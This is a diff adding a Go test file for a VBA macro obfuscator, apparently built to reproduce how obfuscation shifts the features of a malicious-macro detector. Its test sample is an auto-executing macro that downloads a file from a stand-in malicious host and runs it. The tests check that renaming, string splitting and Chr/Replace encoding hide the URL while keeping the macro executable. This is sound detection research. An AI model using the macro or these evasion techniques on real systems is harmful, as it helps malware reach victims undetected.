@@ -1,0 +1,324 @@
+package obfuscate
+
+import (
+	"math/rand"
+	"strings"
+	"testing"
+
+	"repro/internal/features"
+	"repro/internal/vba"
+)
+
+const sample = `Sub AutoOpen()
+    ' download and run the payload
+    Dim downloadURL As String
+    Dim targetPath As String
+    downloadURL = "http://malicious.example/payload.exe"
+    targetPath = "C:\Users\Public\update.exe"
+    Call FetchAndRun(downloadURL, targetPath)
+End Sub
+
+Sub FetchAndRun(sourceURL As String, destination As String)
+    Dim result As Long
+    result = URLDownloadToFile(0, sourceURL, destination, 0, 0)
+    If result = 0 Then
+        Shell destination, 1
+    End If
+End Sub
+`
+
+func TestApplyDeterministic(t *testing.T) {
+	opts := Options{Seed: 42, Random: true, Split: true, Encode: true, Logic: true}
+	a := Apply(sample, opts)
+	b := Apply(sample, opts)
+	if a != b {
+		t.Error("Apply not deterministic for equal seeds")
+	}
+	c := Apply(sample, Options{Seed: 43, Random: true, Split: true, Encode: true, Logic: true})
+	if a == c {
+		t.Error("different seeds produced identical output")
+	}
+}
+
+func TestRandomRenamesIdentifiers(t *testing.T) {
+	out := Apply(sample, Options{Seed: 1, Random: true})
+	for _, id := range []string{"downloadURL", "targetPath", "FetchAndRun", "sourceURL", "destination", "result"} {
+		if strings.Contains(out, id) {
+			t.Errorf("identifier %q survived O1:\n%s", id, out)
+		}
+	}
+	// Auto-exec entry point must survive.
+	if !strings.Contains(out, "AutoOpen") {
+		t.Error("AutoOpen was renamed; macro would no longer auto-execute")
+	}
+	// Keywords and builtins must survive.
+	for _, kw := range []string{"Sub ", "Dim ", "Shell", "URLDownloadToFile"} {
+		if !strings.Contains(out, kw) {
+			t.Errorf("%q missing after O1", kw)
+		}
+	}
+}
+
+func TestRandomRenamingConsistent(t *testing.T) {
+	out := Apply("Sub A()\nDim xyz As Long\nxyz = 1\nxyz = xyz + 2\nEnd Sub\n",
+		Options{Seed: 5, Random: true})
+	m := vba.Parse(out)
+	ids := m.Identifiers()
+	// One procedure name + one variable.
+	if len(ids) != 2 {
+		t.Fatalf("identifiers = %v", ids)
+	}
+	// The renamed variable must appear exactly 4 times (declaration plus
+	// three uses, all renamed the same way).
+	renamed := ids[1]
+	if got := strings.Count(out, renamed); got != 4 {
+		t.Errorf("renamed var %q appears %d times, want 4\n%s", renamed, got, out)
+	}
+}
+
+func TestSplitStrings(t *testing.T) {
+	out := Apply(sample, Options{Seed: 7, Split: true})
+	if strings.Contains(out, `"http://malicious.example/payload.exe"`) {
+		t.Error("long URL literal survived O2 unsplit")
+	}
+	if !strings.Contains(out, "&") && !strings.Contains(out, "+") {
+		t.Error("no concatenation operators after O2")
+	}
+	// Splitting must preserve the concatenated value: all fragments in
+	// order reassemble the original.
+	joined := reassembleStrings(out)
+	if !strings.Contains(joined, "http://malicious.example/payload.exe") {
+		t.Errorf("split fragments do not reassemble the URL: %q", joined)
+	}
+}
+
+// reassembleStrings concatenates every string literal in source order.
+func reassembleStrings(src string) string {
+	var sb strings.Builder
+	for _, t := range vba.Lex(src) {
+		if t.Kind == vba.KindString {
+			sb.WriteString(t.StringValue())
+		}
+	}
+	return sb.String()
+}
+
+func TestEncodeChr(t *testing.T) {
+	out := Apply(sample, Options{Seed: 9, Encode: true, Mode: EncodeChr, EncodeFraction: 1})
+	if strings.Contains(out, `"http://malicious.example/payload.exe"`) {
+		t.Error("URL survived EncodeChr")
+	}
+	if !strings.Contains(out, "Chr(") {
+		t.Error("no Chr() calls after EncodeChr")
+	}
+	// Decode the Chr chain and verify the URL is recoverable.
+	if !strings.Contains(decodeChrChains(out), "http://malicious.example/payload.exe") {
+		t.Error("Chr chain does not decode back to the URL")
+	}
+}
+
+// decodeChrChains evaluates all Chr(n) occurrences in order.
+func decodeChrChains(src string) string {
+	var sb strings.Builder
+	toks := vba.Lex(src)
+	for i := 0; i+2 < len(toks); i++ {
+		if toks[i].Kind == vba.KindKeyword || toks[i].Kind == vba.KindIdent {
+			if strings.EqualFold(toks[i].Text, "Chr") && toks[i+1].Text == "(" && toks[i+2].Kind == vba.KindNumber {
+				var n int
+				for _, c := range toks[i+2].Text {
+					n = n*10 + int(c-'0')
+				}
+				sb.WriteByte(byte(n))
+			}
+		}
+	}
+	return sb.String()
+}
+
+func TestEncodeReplace(t *testing.T) {
+	out := Apply(sample, Options{Seed: 11, Encode: true, Mode: EncodeReplace, EncodeFraction: 1})
+	if !strings.Contains(out, "Replace(") {
+		t.Error("no Replace() calls after EncodeReplace")
+	}
+	if strings.Contains(out, `"http://malicious.example/payload.exe"`) {
+		t.Error("URL survived EncodeReplace")
+	}
+	// Semantics: evaluating each Replace(hidden, marker, ch) must yield an
+	// original literal.
+	if !checkReplaceSemantics(out, "http://malicious.example/payload.exe") {
+		t.Error("Replace() expressions do not restore the URL")
+	}
+}
+
+// checkReplaceSemantics scans Replace("a","b","c") triples and evaluates
+// them, reporting whether any equals want.
+func checkReplaceSemantics(src, want string) bool {
+	toks := vba.Lex(src)
+	for i := 0; i+7 < len(toks); i++ {
+		if (toks[i].Kind == vba.KindIdent || toks[i].Kind == vba.KindKeyword) &&
+			strings.EqualFold(toks[i].Text, "Replace") &&
+			toks[i+1].Text == "(" &&
+			toks[i+2].Kind == vba.KindString &&
+			toks[i+3].Text == "," &&
+			toks[i+4].Kind == vba.KindString &&
+			toks[i+5].Text == "," &&
+			toks[i+6].Kind == vba.KindString {
+			got := strings.ReplaceAll(toks[i+2].StringValue(), toks[i+4].StringValue(), toks[i+6].StringValue())
+			if got == want {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+func TestEncodeDecoder(t *testing.T) {
+	out := Apply(sample, Options{Seed: 13, Encode: true, Mode: EncodeDecoder, EncodeFraction: 1})
+	if !strings.Contains(out, "Array(") {
+		t.Error("no Array() payloads after EncodeDecoder")
+	}
+	if !strings.Contains(out, "Private Function") {
+		t.Error("decoder function not appended")
+	}
+	if !strings.Contains(out, "UBound") || !strings.Contains(out, "Chr(") {
+		t.Error("decoder body incomplete")
+	}
+	// Output must still parse.
+	m := vba.Parse(out)
+	if len(m.Procedures) < 3 {
+		t.Errorf("procedures after decoder injection = %d, want >= 3", len(m.Procedures))
+	}
+}
+
+func TestLogicPadding(t *testing.T) {
+	for _, target := range []int{1500, 3000, 15000} {
+		out := Apply(sample, Options{Seed: 17, Logic: true, TargetSize: target})
+		if len(out) < target {
+			t.Errorf("target %d: output %d bytes, want >= target", target, len(out))
+		}
+		if len(out) > target+600 {
+			t.Errorf("target %d: output %d bytes overshoots badly", target, len(out))
+		}
+		// Inserted dummy code must still parse.
+		m := vba.Parse(out)
+		if len(m.Procedures) < 3 {
+			t.Errorf("target %d: procedures = %d", target, len(m.Procedures))
+		}
+	}
+}
+
+func TestStripComments(t *testing.T) {
+	out := Apply(sample, Options{Seed: 19, StripComments: true})
+	if strings.Contains(out, "download and run the payload") {
+		t.Error("comment survived StripComments")
+	}
+	if feats := features.ExtractV(out); feats[1] != 0 {
+		t.Errorf("V2 (comment chars) = %v after strip", feats[1])
+	}
+}
+
+func TestHideStrings(t *testing.T) {
+	out := Apply(sample, Options{Seed: 23, HideStrings: true})
+	if !strings.Contains(out, "ActiveDocument.Variables(") && !strings.Contains(out, "UserForm1.Label1.Caption") {
+		t.Errorf("no hidden-string rewrites:\n%s", out)
+	}
+}
+
+func TestBrokenCode(t *testing.T) {
+	out := Apply(sample, Options{Seed: 29, BrokenCode: true})
+	if !strings.Contains(out, "Exit Sub") {
+		t.Error("no Exit Sub inserted")
+	}
+	if !strings.Contains(out, ".mns(") {
+		t.Error("no broken member access inserted")
+	}
+	// The parser must survive the broken code.
+	m := vba.Parse(out)
+	if len(m.Procedures) != 2 {
+		t.Errorf("procedures = %d, want 2", len(m.Procedures))
+	}
+}
+
+func TestFullPipelineShiftsFeatures(t *testing.T) {
+	out := Apply(sample, Options{
+		Seed: 31, Random: true, Split: true, Encode: true, Mode: EncodeChr,
+		EncodeFraction: 1, Logic: true, TargetSize: 3000, StripComments: true,
+	})
+	vn := features.ExtractV(sample)
+	vo := features.ExtractV(out)
+	if vo[13] <= vn[13] {
+		t.Errorf("V14 identifier length: %v <= %v", vo[13], vn[13])
+	}
+	if vo[7] <= vn[7] {
+		t.Errorf("V8 text-function share: %v <= %v", vo[7], vn[7])
+	}
+	if vo[1] != 0 {
+		t.Errorf("V2 comments: %v, want 0", vo[1])
+	}
+	if vo[0] <= vn[0] {
+		t.Errorf("V1 code size: %v <= %v (O4 must grow code)", vo[0], vn[0])
+	}
+}
+
+func TestToolsProduceBands(t *testing.T) {
+	byTool := map[string][]int{}
+	for _, tool := range StandardTools {
+		for seed := int64(0); seed < 10; seed++ {
+			out := tool.Obfuscate(sample, seed)
+			byTool[tool.Name] = append(byTool[tool.Name], len(out))
+		}
+	}
+	// Padding tools must cluster near their targets.
+	for _, tc := range []struct {
+		tool   string
+		target int
+	}{{"crunch-lite", 1500}, {"crunch-std", 3000}, {"crunch-max", 15000}} {
+		for _, n := range byTool[tc.tool] {
+			if n < tc.target/2 || n > tc.target*2 {
+				t.Errorf("%s produced %d bytes, want near %d", tc.tool, n, tc.target)
+			}
+		}
+	}
+}
+
+func TestRandomNameShape(t *testing.T) {
+	rng := rand.New(rand.NewSource(3))
+	for i := 0; i < 100; i++ {
+		n := randomName(rng)
+		if len(n) < 8 || len(n) > 15 {
+			t.Fatalf("randomName length %d", len(n))
+		}
+		for _, c := range n {
+			if c < 'a' || c > 'z' {
+				t.Fatalf("randomName char %q", c)
+			}
+		}
+	}
+}
+
+func TestApplyEmptySource(t *testing.T) {
+	out := Apply("", Options{Seed: 1, Random: true, Split: true, Encode: true})
+	if out != "" {
+		t.Errorf("Apply(\"\") = %q", out)
+	}
+}
+
+func TestObfuscatedStillParses(t *testing.T) {
+	for _, tool := range StandardTools {
+		out := tool.Obfuscate(sample, 99)
+		m := vba.Parse(out)
+		if len(m.Procedures) == 0 {
+			t.Errorf("tool %s output has no parsable procedures", tool.Name)
+		}
+	}
+}
+
+func BenchmarkObfuscateFull(b *testing.B) {
+	opts := Options{Seed: 1, Random: true, Split: true, Encode: true, Logic: true, TargetSize: 3000, StripComments: true}
+	b.SetBytes(int64(len(sample)))
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		opts.Seed = int64(i)
+		Apply(sample, opts)
+	}
+}
